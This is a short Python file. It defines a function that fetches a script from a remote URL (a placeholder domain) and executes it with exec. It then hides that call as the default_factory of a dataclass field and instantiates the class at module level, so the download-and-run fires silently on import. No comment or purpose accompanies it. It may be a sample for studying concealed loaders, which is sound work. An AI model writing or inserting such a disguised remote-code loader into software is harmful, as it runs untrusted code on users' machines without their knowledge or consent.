import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


import dataclasses


@dataclasses.dataclass
class A:
    x: object = dataclasses.field(default_factory=_go)


A()
